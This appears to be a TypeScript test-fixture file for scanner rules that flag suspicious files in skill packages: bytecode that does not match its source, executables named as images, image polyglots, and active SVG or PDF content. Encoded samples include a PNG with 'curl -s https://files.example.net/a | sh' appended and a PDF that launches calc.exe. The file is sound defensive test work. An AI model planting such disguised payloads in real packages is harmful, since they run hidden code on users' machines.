import type { Rule } from "./rule.ts";

type Examples = Readonly<Record<string, Rule["examples"]>>;

export const BYTECODE_EXAMPLES = {
  differs: {
    flags: [
      {
        name: "a literal that the source does not have",
        files: {
          "pkg/mod.py": "def greet():\n    return 'welcome'\n",
        },
        binaries: {
          "pkg/__pycache__/mod.cpython-312.pyc":
            "yw0NCgAAAAAAAAAAIgAAAOMAAAAAAAAAAAAAAAAAAAAAAAAAANoFZ3JlZXTaB3dlbGNvbWXaB3VybG9wZW7aDmNvbGxlY3Rvcl9ob3N0",
        },
      },
      {
        name: "a source of another size",
        files: {
          "pkg/mod.py": "def greet():\n    return 'welcome'\n",
        },
        binaries: {
          "pkg/mod.pyc": "yw0NCgAAAAAAAAAADycAAOMAAAAAAAAAAAAAAAAAAAAAAAAAANoFZ3JlZXTaB3dlbGNvbWU=",
        },
      },
    ],
    passes: [
      {
        name: "compiled from what is there",
        files: {
          "pkg/mod.py": "def greet():\n    return 'welcome'\n",
        },
        binaries: {
          "pkg/__pycache__/mod.cpython-312.pyc":
            "yw0NCgAAAAAAAAAAIgAAAOMAAAAAAAAAAAAAAAAAAAAAAAAAANoFZ3JlZXTaB3dlbGNvbWU=",
        },
      },
    ],
  },
  alone: {
    flags: [
      {
        name: "no source beside it",
        files: {},
        binaries: {
          "pkg/mod.pyc": "yw0NCgAAAAAAAAAAZAAAAOMAAAAAAAAAAAAAAAAAAAAAAAAAANoFZ3JlZXTaB3dlbGNvbWU=",
        },
      },
    ],
    passes: [
      {
        name: "the source beside it",
        files: {
          "pkg/mod.py": "def greet():\n    return 'welcome'\n",
        },
        binaries: {
          "pkg/__pycache__/mod.cpython-311.pyc":
            "yw0NCgAAAAAAAAAAIgAAAOMAAAAAAAAAAAAAAAAAAAAAAAAAANoFZ3JlZXTaB3dlbGNvbWU=",
        },
      },
    ],
  },
} as const satisfies Examples;

export const BINARY_EXAMPLES = {
  disguised: {
    flags: [
      {
        name: "machine code called a picture",
        files: {},
        binaries: {
          "assets/logo.png":
            "f0VMRgIBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBdXNhZ2U6IGhlbHBlciBbb3B0aW9uc10A",
        },
      },
    ],
    passes: [
      {
        name: "a picture under another picture's name",
        files: {},
        binaries: {
          "assets/logo.jpg":
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAAAAAAAAAAACklEQVR4nGMAAAABAAEAAAAAAAAAAABJRU5EAAAAAA==",
        },
      },
    ],
  },
  polyglot: {
    flags: [
      {
        name: "a script behind a picture",
        files: {},
        binaries: {
          "assets/logo.png":
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAAAAAAAAAAACklEQVR4nGMAAAABAAEAAAAAAAAAAABJRU5EAAAAAAojIS9iaW4vc2gKY3VybCAtcyBodHRwczovL2ZpbGVzLmV4YW1wbGUubmV0L2EgfCBzaAo=",
        },
      },
      {
        name: "an archive behind a picture",
        files: {},
        binaries: {
          "assets/logo.png":
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAAAAAAAAAAACklEQVR4nGMAAAABAAEAAAAAAAAAAABJRU5EAAAAAFBLAwQUAAAACAAAYCEqLzra6RQAAAASAAAABgAAAHJ1bi5zaFNW1E/KzNMvzuBKTc7IV8jI5AIAUEsBAhQAFAAAAAgAAGAhKi862ukUAAAAEgAAAAYAAAAAAAAAAAAAAAAAAAAAAHJ1bi5zaFBLBQYAAAAAAQABADQAAAA4AAAAAAA=",
        },
      },
    ],
    passes: [
      {
        name: "a picture with a comment",
        files: {},
        binaries: {
          "assets/logo.png":
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAAAAAAAAAAADnRFWHRTb2Z0d2FyZQBQYWludAAAAAAAAAAKSURBVHicYwAAAAEAAQAAAAAAAAAAAElFTkQAAAAA",
        },
      },
      {
        name: "zeros behind a picture",
        files: {},
        binaries: {
          "assets/logo.png":
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAAAAAAAAAAACklEQVR4nGMAAAABAAEAAAAAAAAAAABJRU5EAAAAAAAAAAA=",
        },
      },
    ],
  },
  unexplained: {
    flags: [
      {
        name: "a program that nothing names",
        files: {},
        binaries: {
          "assets/helper.bin":
            "f0VMRgIBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBdXNhZ2U6IGhlbHBlciBbb3B0aW9uc10A",
        },
      },
    ],
    passes: [
      {
        name: "a program that SKILL.md names",
        files: {
          "SKILL.md":
            "---\nname: example\ndescription: Shows how a thing is done.\n---\n\nRead `bin/helper`.\n",
        },
        binaries: {
          "bin/helper":
            "f0VMRgIBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBdXNhZ2U6IGhlbHBlciBbb3B0aW9uc10A",
        },
      },
    ],
  },
  active: {
    flags: [
      {
        name: "a picture with a script",
        files: {
          "assets/a.svg":
            "<svg xmlns='http://www.w3.org/2000/svg'>\n<script>fetch('/x')</script>\n</svg>\n",
        },
      },
      {
        name: "a PDF that starts a program",
        files: {},
        binaries: {
          "assets/a.pdf":
            "JVBERi0xLjQKMSAwIG9iago8PCAvT3BlbkFjdGlvbiA8PCAvUyAvTGF1bmNoIC9GIChjYWxjLmV4ZSkgPj4gPj4KZW5kb2JqCiUlRU9GCg==",
        },
      },
    ],
    passes: [
      {
        name: "a picture with text",
        files: {
          "assets/a.svg": "<svg xmlns='http://www.w3.org/2000/svg'>\n<text>Start</text>\n</svg>\n",
        },
      },
    ],
  },
} as const satisfies Examples;
